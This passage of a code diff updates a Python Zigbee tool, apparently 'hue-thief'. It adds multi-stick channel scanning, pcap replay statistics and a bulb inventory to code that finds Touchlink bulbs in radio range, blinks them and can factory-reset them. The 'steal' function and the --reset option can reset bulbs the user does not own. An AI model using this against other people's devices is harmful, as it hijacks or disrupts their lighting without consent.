+                touchlinks.append(await Touchlink.create(device_path, baud_rate, pcap_path=pcap_path, **kwargs))
+        except Exception:
+            for tl in touchlinks:
+                await tl.close()
+            raise
+        return RadioPool(touchlinks)
+
+    async def close(self):
+        for radio in self.radios:
+            await radio.close()
+
+    def radio_for(self, channel):
+        if channel is None:
+            return self.radios[0]
+        return self.radios[channel_owner(channel, len(self.radios))]
+
+    async def submit(self, operation, channel=None, priority=SCAN_PRIORITY):
+        """Queue ``operation(touchlink)`` on the stick owning channel and wait for its result"""
+        return await self.radio_for(channel).submit(operation, channel=channel, priority=priority)
+
+    def shard(self, channels) -> list[list[int]]:
+        return shard_channels(self.channel_scheduler.order(channels), len(self.radios))
+
+    def scan_channels(self, channels=ALL_CHANNELS, **scan_kwargs) -> AsyncIterator[tuple[int, list[Target]]]:
+        """Scan each radio's shard concurrently, yielding channels as they finish"""
+        return merge_iterators([scan_each(radio, shard, **scan_kwargs)
+                                for radio, shard in zip(self.radios, self.shard(channels)) if shard])
+
+
+async def scan_targets(radio, channels=ALL_CHANNELS, **scan_kwargs) -> AsyncIterator[Target]:
+    """Scan channels, yielding each bulb found as soon as its channel is done.
+
+    This is the scan engine behind the CLI, old-hue-thief.py and the server.
+    radio is a Touchlink, a RadioPool or the server's RadioGroup: anything
+    with scan_channels(channels, **scan_kwargs) and submit(operation, channel,
+    priority). scan_kwargs are passed on to Touchlink.scan_channel, e.g.
+    repeats or the listen timings.
+    """
+    async for c, targets in radio.scan_channels(channels, **scan_kwargs):
+        for t in targets:
+            yield t
+
+
+async def send_command(radio, command, target) -> bool:
+    """Queue ``command(touchlink, ext_address, transaction_id, channel)`` for target at COMMAND_PRIORITY.
+
+    A bulb that never ACKs is reported and skipped, so one silent bulb
+    doesn't stop the others. Returns whether it was delivered.
+    """
+    try:
+        await radio.submit(lambda tl: command(tl, target.ext_address, target.transaction_id, target.channel),
+                           channel=target.channel, priority=COMMAND_PRIORITY)
+        return True
+    except DeliveryError as e:
+        print(f"Skipping {target.ext_address}: {e}")
+        return False
+
+
+async def blink_routine(radio, channels):
+    """Sweep channels and blink every bulb found, once each. radio is a Touchlink or a RadioPool"""
+    found = MergedTargets()
+    async for t in scan_targets(radio, channels):
+        found.add(t)
+    targets = found.by_strength()
+    print(f"{targets}")
+    # Queued together, strongest first, so the scheduler can batch them by channel
+    await asyncio.gather(*(send_command(radio, Touchlink.identify_bulb, t) for t in targets))
+
+
+async def steal(device_path, baudrate, scan_channel=None, reset=False, clean_up=True, radio=None,
+                identify_delay=1.0, **scan_kwargs) -> list[Target]:
+    """The original hue-thief flow: blink every bulb found, and factory reset it with reset.
+
+    Each bulb is handled as soon as its channel has been scanned, while the
+    scan's transaction is still valid. device_path may be a list of several
+    sticks, which then share the channels like the CLI's. A radio opened by
+    the caller can be passed instead of device_path, clean_up closes it
+    afterwards.
+    """
+    if radio is None:
+        if isinstance(device_path, str):
+            radio = await Touchlink.create(device_path, baudrate)
+        elif len(device_path) == 1:
+            radio = await Touchlink.create(device_path[0], baudrate)
         else:
-            handled.add(target)
+            radio = await RadioPool.create(device_path, baudrate)
+    channels = [scan_channel] if scan_channel else ALL_CHANNELS
+    found = []
+    try:
+        async for t in scan_targets(radio, channels, **scan_kwargs):
+            found.append(t)
+            await asyncio.sleep(identify_delay)
+            if await send_command(radio, Touchlink.identify_bulb, t) and reset:
+                await send_command(radio, Touchlink.send_reset, t)
+        if not found:
+            print(f"Found no targets on channels {', '.join(map(str, channels))}")
+    finally:
+        if clean_up:
+            await radio.close()
+    return found
+
+
+class ReplayStats:
+    def __init__(self, examples=10):
+        self.files = 0
+        self.frames = 0
+        self.bytes = 0
+        # Records the capture cut short of the frame's length (snaplen)
+        self.truncated = 0
+        self.scan_requests = 0
+        self.transactions = 0
+        # Files can be given in any order, e.g. log.pcap before log.pcap.1
+        self.earliest = None
+        self.latest = None
+        # Frame counts by ResponseHandler classification per channel. The
+        # pcap has no channel, it is taken from the responses to each scan
+        # and "unknown" when a scan got none.
+        self.channel_stats = defaultdict(Counter)
+        # Frames that passed the ScanResp header check but didn't decode, by length
+        self.decode_errors = Counter()
+        self.invalid_responses = CaptureBuffer(max_frames=examples)
+        self.valid_responses = CaptureBuffer(max_frames=examples)
+        # Every bulb seen, latest response kept
+        self.targets = {}
+
+
+def replay_pcap(paths, on_target=None, stats=None) -> ReplayStats:
+    """Run captures written by dump_pcap through ResponseHandler offline.
+
+    Our own ScanReqs are in the capture, so each one starts a new handler
+    for its transaction and the frames after it are classified against it,
+    as they were live. Memory stays flat: frames are read one at a time and
+    only per-channel counters and the bulbs found are kept.
+    """
+    stats = stats or ReplayStats()
+
+    def finish(handler):
+        if not handler.frame_counts:
+            return
+        channels = {t.channel for t in handler.targets.values()}
+        channel = channels.pop() if len(channels) == 1 else "unknown"
+        stats.channel_stats[channel].update(handler.frame_counts)
+        stats.targets.update(handler.targets)
+
+    def start(transaction_id):
+        return ResponseHandler(None, None, None, transaction_id,
+                               valid_responses=stats.valid_responses,
+                               invalid_responses=stats.invalid_responses,
+                               on_target=on_target)
 
-        await identify_bulb(dev, eui64, target, transaction_id, channel)
+    handler = start(None)
+    for path in paths:
+        stats.files += 1
+        for timestamp, frame, length in iter_pcap(path):
+            stats.frames += 1
+            stats.bytes += len(frame)
+            if stats.earliest is None or timestamp < stats.earliest:
+                stats.earliest = timestamp
+            if stats.latest is None or timestamp > stats.latest:
+                stats.latest = timestamp
+            if len(frame) < length:
+                stats.truncated += 1
 
-        #answer = await prompt("Do you want to factory reset the light that just blinked? [y|n] ")
-        answer = "n"
+            transaction_id = interpanZll.scan_req_transaction(frame)
+            if transaction_id is not None:
+                stats.scan_requests += 1
+                # Repeated ScanReqs in a burst share the transaction
+                if transaction_id != handler.transaction_id:
+                    finish(handler)
+                    handler = start(transaction_id)
+                    stats.transactions += 1
+                continue
 
-        if answer.strip().lower() == "y":
-            await send_reset(dev, eui64, transaction_id, channel)
+            invalid = len(stats.invalid_responses) + stats.invalid_responses.dropped
+            handler.process(frame)
+            if len(stats.invalid_responses) + stats.invalid_responses.dropped != invalid:
+                stats.decode_errors[len(frame)] += 1
+    finish(handler)
+    return stats
+
+
+def print_replay(stats: ReplayStats, elapsed):
+    span = (stats.latest - stats.earliest) if stats.frames else 0
+    print(f"Replayed {stats.frames} frames ({stats.bytes} bytes) from {stats.files} file(s) "
+          f"covering {span:.1f}s in {elapsed:.2f}s, {stats.frames / elapsed if elapsed else 0:,.0f} frames/s")
+    print(f"{stats.scan_requests} scan requests in {stats.transactions} transactions, "
+          f"{stats.truncated} frames truncated by the capture")
+
+    print(f"\nTouchlink devices ({len(stats.targets)}):")
+    for t in sorted(stats.targets.values(), key=lambda t: (t.channel, t.ext_address)):
+        print(f"  {t.ext_address} channel {t.channel} deviceId 0x{t.device_id:04x} "
+              f"profileId 0x{t.profile_id:04x} version {t.version}")
+
+    kinds = sorted({kind for counts in stats.channel_stats.values() for kind in counts})
+    print(f"\n{'channel':>8} " + " ".join(f"{kind:>18}" for kind in kinds))
+    for channel in sorted(stats.channel_stats, key=str):
+        counts = stats.channel_stats[channel]
+        print(f"{channel:>8} " + " ".join(f"{counts[kind]:>18}" for kind in kinds))
+
+    print(f"\nDecode errors: {sum(stats.decode_errors.values())}")
+    for length, count in sorted(stats.decode_errors.items()):
+        print(f"  {count} frames of {length} bytes")
+    for frame in stats.invalid_responses:
+        print(f"  e.g. {frame.data.hex()}")
+
+
+def replay(paths):
+    start = time.perf_counter()
+    try:
+        stats = replay_pcap(paths)
+    except (OSError, PcapFormatError) as e:
+        sys.exit(f"Unable to replay: {e}")
+    print_replay(stats, time.perf_counter() - start)
 
 
 async def main(args):
-    # asyncio.get_event_loop().run_until_complete(steal(args.device, args.baudrate, args.channel, reset_prompt=args.reset))
-    tl = await Touchlink.create(args.device, args.baudrate)
-    channels = [args.channel] if args.channel else list(range(11, 27))
-    await tl.blink_routine(channels)
-    await tl.close()
+    kwargs = dict(first_response_timeout=args.first_response_timeout,
+                  quiet_period=args.quiet_period,
+                  scan_repeats=args.scan_repeats)
+    channels = [args.channel] if args.channel else ALL_CHANNELS
+    if args.inventory:
+        kwargs["inventory"] = Inventory(args.inventory)
+    try:
+        if len(args.device) == 1:
+            tl = await Touchlink.create(args.device[0], args.baudrate, **kwargs)
+        else:
+            # Channels are sharded across the sticks and scanned concurrently
+            tl = await RadioPool.create(args.device, args.baudrate, **kwargs)
+        try:
+            with tracing.span("blink_routine", channels=len(channels)), tracing.profile("blink_routine"):
+                await blink_routine(tl, channels)
+        finally:
+            # Flushes the pcap writer even when the routine fails
+            await tl.close()
+    finally:
+        if args.inventory:
+            kwargs["inventory"].close()
 
 if __name__ == "__main__":
     parser = argparse.ArgumentParser(description='Factory reset a Hue light bulb.')
-    parser.add_argument('device', type=str, help='Device path, e.g., /dev/ttyUSB0')
+    parser.add_argument('device', type=str, nargs='+', help='Device path, e.g., /dev/ttyUSB0. Give several to scan with several sticks. With --replay, pcap files')
     parser.add_argument('-b', '--baudrate', type=int, default=57600, help='Baud rate (default: 57600)')
     parser.add_argument('-c', '--channel', type=int, help='Zigbee channel (defaults to scanning 11 up to 26)')
     parser.add_argument('--reset', action="store_true", help='Whether to offer to reset the bulb')
+    parser.add_argument('--replay', action="store_true", help='Analyse captures written to log.pcap offline instead of using a radio')
+    parser.add_argument('--first-response-timeout', type=float, default=0.3, help='Seconds to wait for the first scan response on a channel (default: 0.3)')
+    parser.add_argument('--scan-repeats', type=int, default=DEFAULT_SCAN_REPEATS,
+                        help=f'Scan requests sent per channel, the ZLL spec uses {ZLL_SCAN_REPEATS} (default: {DEFAULT_SCAN_REPEATS})')
+    parser.add_argument('--quiet-period', type=float, default=0.15, help='Seconds without responses before moving to the next channel (default: 0.15)')
+    parser.add_argument('--inventory', help='SQLite file recording every bulb seen, e.g. /data/inventory.db')
+    tracing.add_arguments(parser)
     args = parser.parse_args()
-    asyncio.run(main(args))
+    tracing.configure(args)
+    if args.replay:
+        replay(args.device)
+    else:
+        asyncio.run(main(args))
 